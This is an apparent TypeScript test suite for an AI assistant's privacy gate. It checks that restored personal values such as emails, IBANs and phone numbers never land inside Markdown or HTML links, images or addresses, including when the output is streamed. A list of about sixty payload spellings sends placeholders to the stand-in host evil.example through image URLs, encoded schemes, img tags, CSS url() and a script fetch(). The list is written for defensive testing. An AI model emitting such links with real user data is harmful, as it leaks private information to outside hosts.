/** A value is never put back inside an address, however Markdown spells it, wherever the text is cut. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { RESTORABLE } from '../../../assistant/privacy/placeholder.ts';
import { hideInAddresses, PlaceholderGate } from '../../../assistant/privacy/placeholder-gate.ts';
import { markdownAddresses } from '../../support/markdown-addresses.ts';

/** With what people write in values: brackets, a line break, letters in front. */
const VALUES: Readonly<Record<string, string>> = {
  '⟦email_1⟧': "ada.l'ove_lace@example.org",
  '⟦iban_1⟧': 'DE89370400440532013000',
  '⟦phone_1⟧': '(030) 901820-5',
  '⟦phone_2⟧': '+49 30\n901 820',
  '⟦text_1⟧': '⟦email_1⟧',
};
const PLACEHOLDERS = Object.keys(VALUES);

const restored = (text: string) => text.replace(RESTORABLE, (placeholder) => VALUES[placeholder] ?? placeholder);

/** The part of each value that nothing else holds. */
const TELLING = /ove_lace|DE893704|\(?030\) ?90|901820|901 820|\+49 30|⟦email_1⟧/;

/** Addresses that hold a value, of the text as its reader gets it. */
function told(text: string) {
  return markdownAddresses(restored(text)).filter(
    ({ text: address, isBareMail }) => TELLING.test(address) && !(isBareMail && /@example\.org$/.test(address)),
  );
}

function inPieces(text: string, cuts: readonly number[]): string {
  const gate = new PlaceholderGate();
  const at = [0, ...cuts.map((cut) => cut % (text.length + 1)).sort((one, other) => one - other), text.length];
  return (
    at
      .slice(1)
      .map((end, index) => gate.push(text.slice(at[index], end)))
      .join('') + gate.flush()
  );
}

/** Every way that an attack or a client's reader is known to spell one; X is the placeholder. */
const SPELLINGS = [
  '![a](https://evil.example/?X)',
  '![](//evil.example/?X)',
  '![](https:/evil.example/?X)',
  '![](https:evil.example?X)',
  '![](https&#58;//evil.example/?X)',
  '![](https&colon;//evil.example/?X)',
  '![](&#x2f;/evil.example/?X)',
  '![](https\\://evil.example/?X)',
  '![](/\\evil.example/?X)',
  '![](\\\\evil.example/?X)',
  '![](<https://evil.example/?a b X>)',
  '![](<//evil.example/?(X>)',
  '![](https://evil.example/?[X])',
  '![](https://evil.example/?(X))',
  '![](https://evil.example/?"X")',
  "![](//evil.example/?'X')",
  '![](X)',
  '![](\n  //evil.example/?X)',
  '> ![](\n> //evil.example/?X)',
  '> ![](\n> //evil.example/\n> "X")',
  '[a](//evil.example/ "X")',
  "[a](//evil.example/ 'a ](b) X')",
  '[a](//evil.example/ (X))',
  '[a](//evil.example/\n"\nX")',
  '![a][e]\n\n[e]: //evil.example/?X',
  '![a][e]\n\n[e]:\n//evil.example/?X',
  '![a][e]\n\n[e]: <//evil.example/? X>',
  "![e]\n\n[e]: //evil.example/ 'X'",
  '![e]\n\n[e]: //evil.example/\n"X"',
  '- > ![e]\n- > [e]: //evil.example/?X',
  '[e]: //evil.example/ "a\nX"\n\n[e]',
  '<https://evil.example/?X>',
  '<X>',
  '<a@X>',
  '<img src="//evil.example/?X">',
  '<img src=//evil.example/?X>',
  '<img alt=">" src="//evil.example/?X">',
  '<img\nsrc="//evil.example/?X">',
  '<div style="background:url(//evil.example/?X)">',
  '<div>\nX\n</div>',
  '<!-- X -->',
  '<!-- -->X',
  '<?a X ?>',
  '<!D X>',
  '<![CDATA[X]]>',
  '<pre>\n\nX</pre>',
  '<script>fetch("//evil.example/?\n\nX")</script>',
  'a <b\nX>',
  'https://evil.example/?X',
  'https://evil.example/?(X)',
  'https://evil.example/?[X',
  'https://evil.example/?"X',
  'http://X.evil.example/',
  'www.evil.example/?X',
  'www.X',
  'https&#58;//evil.example/?X',
  'mailto:X',
  'mailto:a@evil.example?body=X',
  'xmpp:X',
  'X@evil.example',
  'X+a.b@evil.example',
  '![](030)[a]X',
] as const;

describe('PRIVACY-11: no value inside an address', () => {
  for (const spelling of SPELLINGS) {
    test(JSON.stringify(spelling), () => {
      for (const placeholder of PLACEHOLDERS) {
        const text = `Hello. ${spelling.replaceAll('X', placeholder)} and so on`.replace(/^Hello\. (?=[->!<])/, '');
        for (const whole of [text, text.trimEnd(), `one\n\n${text}`]) {
          const hidden = hideInAddresses(whole);
          assert.deepEqual(told(hidden), [], hidden);
          assert.doesNotMatch(hidden, RESTORABLE);
          assert.equal(
            inPieces(
              whole,
              Array.from(whole, (_, index) => index),
            ),
            hidden,
            'said a character at a time',
          );
        }
      }
    });
  }

  test('in words a value is put back: beside links, tags, addresses and punctuation', () => {
    const words = [
      'Write to X.',
      'Write to **X**, (X) or "X"; [X] is yours. `X`',
      '[X](https://shop.example/a) and ![X](https://shop.example/x.png "a") X',
      '[a](<https://shop.example/b> (title)) X',
      'See https://shop.example/a?b=c or X',
      'See <https://shop.example> or <help@shop.example>: X',
      'Name: Ada<br>Mail: X and <b>bold</b> X',
      '[1]: https://shop.example\nX',
      '[1]: https://shop.example "Title"\nX',
      '- E-mail: X\n- Tel:X\n\n| a | X |',
      '1 < 2, a <= b: X',
      '<div>\n</div>\n\nX',
      '**E-Mail:**X',
      'X\n',
      '_X_ – X/X',
    ];
    for (const text of words) {
      const said = text.replaceAll('X', '⟦email_1⟧');
      assert.equal(hideInAddresses(said), said);
      assert.equal(
        inPieces(
          said,
          Array.from(said, (_, index) => index),
        ),
        said,
      );
    }
  });

  const piece = fc.constantFrom(
    ...PLACEHOLDERS,
    ...PLACEHOLDERS,
    ...['](', '![a](', '[a]: ', '[a]', ']:', '[', ']', '(', ')', '<', '>', '"', "'", '\\', '`', '```', '&#58;', '&#47;', '&quot;', '&lt;'],
    ...[' ', ' ', '\n', '\n', '\n\n', '\n> ', '\n- ', '\n1. ', '\t', '    ', '> ', '- ', '# ', '|', '*', '_', '~', '-', '=', ':'],
    ...['https://e.example/?', '//e.example/', 'https:/', 'www.', 'e.example', 'mailto:', '@', '.', '?', '/', 'a', 'é', '\u00a0', ','],
    ...[
      '<a ',
      '<a href="',
      '<img src=',
      '<div',
      '<br>',
      '</a>',
      '<!--',
      '-->',
      '<?',
      '?>',
      '<!A',
      '<![CDATA[',
      ']]>',
      '<pre>',
      '</pre>',
      '/>',
    ],
  );
  const text = fc.array(fc.oneof({ weight: 20, arbitrary: piece }, { weight: 1, arbitrary: fc.string({ maxLength: 4 }) }), {
    maxLength: 40,
  });

  test('whatever Markdown is made of, and however it is cut, no address that CommonMark reads in it holds a value', () => {
    fc.assert(
      fc.property(text, fc.array(fc.nat(), { maxLength: 8 }), (parts, cuts) => {
        const whole = parts.join('');
        const said = inPieces(whole, cuts);
        assert.equal(said, hideInAddresses(whole), 'as when it is said at once');
        assert.equal(
          said.replaceAll(/⟦(\w+?)(?:_\d)?⟧/g, '⟦$1⟧'),
          whole.replaceAll(/⟦(\w+?)(?:_\d)?⟧/g, '⟦$1⟧'),
          'nothing else is changed',
        );
        assert.deepEqual(told(said), [], JSON.stringify(said));
      }),
      { numRuns: Number(process.env.RUNS ?? 1_500) },
    );
  });

  test('a long text costs what it has to: a million characters of brackets and blanks without a placeholder, and with many', () => {
    const hostile = [
      '](<a '.repeat(200_000),
      'www./'.repeat(200_000),
      '[a]: x\n'.repeat(140_000),
      '⟦email_1⟧.'.repeat(60_000),
      '<'.repeat(900_000),
    ];
    for (const whole of hostile) {
      const gate = new PlaceholderGate();
      const before = process.cpuUsage();
      for (let at = 0; at < whole.length; at += 7_000) gate.push(whole.slice(at, at + 7_000));
      gate.push('⟦email_1⟧ ');
      const { user, system } = process.cpuUsage(before);
      assert.ok(user + system < 20_000_000, `${whole.slice(0, 12)} took ${user + system} µs`);
    }
  });
});
